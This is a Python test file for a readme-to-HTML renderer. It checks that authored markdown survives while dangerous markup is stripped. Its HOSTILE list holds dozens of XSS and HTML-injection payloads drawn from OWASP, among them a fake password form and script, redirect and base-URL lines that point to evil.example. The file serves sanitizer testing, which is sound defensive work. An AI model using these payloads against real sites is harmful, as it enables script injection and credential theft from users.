"""Readmes: what an author may write, and what never reaches a browser."""

import re

import pytest

from runtime.pages.readmes import rendered

# From OWASP's filter evasion cheat sheet, and from what markdown adds to it.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14;javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/a.png"onerror="alert(1))',
    '!["><script>alert(1)</script>](https://ok.example/a.png)',
    '[x](https://ok.example "onmouseover=alert(1)")',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>body{display:none}</style>",
    '<link rel=stylesheet href="//evil.example">',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div id=notices class='notice bad'>x</div>",
    "<p hx-get=/sign-out hx-trigger=load data-copy=x>x</p>",
    "<a href='/w/default/plugins' target=_blank>x</a>",
    "```html\n<script>alert(1)</script>\n```",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<video><source onerror=alert(1)></video>",
]
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ALLOWED = {
    "p",
    "br",
    "hr",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "kbd",
    "a",
    "em",
    "strong",
    "b",
    "i",
    "s",
    "del",
    "sub",
    "sup",
}
ALLOWED |= {"table", "thead", "tbody", "tr", "th", "td", "details", "summary", "dl", "dt", "dd"}
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"]*)"')


@pytest.mark.parametrize("content", HOSTILE)
def test_nothing_hostile_is_left(content: str) -> None:
    html = rendered(content)
    for tag, attributes in TAG.findall(html):
        assert tag.lower() in ALLOWED, html
        assert not ATTRIBUTE.sub("", attributes).strip(), html
        for name, value in ATTRIBUTE.findall(attributes):
            assert name in {"href", "title", "rel", "start", "colspan", "rowspan"}, html
            assert name != "href" or value.startswith(("http://", "https://", "mailto:")), html


def test_what_authors_write_is_there() -> None:
    html = rendered(
        "# Echo\n\nSays *back*.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n\n```\ncode < more\n```\n\n~~old~~"
    )
    for expected in ("<h2>Echo</h2>", "<em>back</em>", "<td>1</td>", "<li>one</li>", "code &lt; more", "<s>old</s>"):
        assert expected in html


def test_links_of_others_are_marked_and_links_to_us_are_dropped() -> None:
    html = rendered("[there](https://example.org/a) [here](/w/default/plugins) [part](#x)")
    assert '<a href="https://example.org/a" rel="noopener noreferrer nofollow">there</a>' in html
    assert html.count("href=") == 1


def test_images_are_words_and_not_loaded() -> None:
    html = rendered("![the settings](https://example.org/a.png) ![inside](_assets/b.png)")
    assert "<img" not in html
    assert 'href="https://example.org/a.png"' in html
    assert "<em>inside</em>" in html


def test_a_readme_without_end_is_cut() -> None:
    assert len(rendered("word " * 1_000_000)) < 250_000
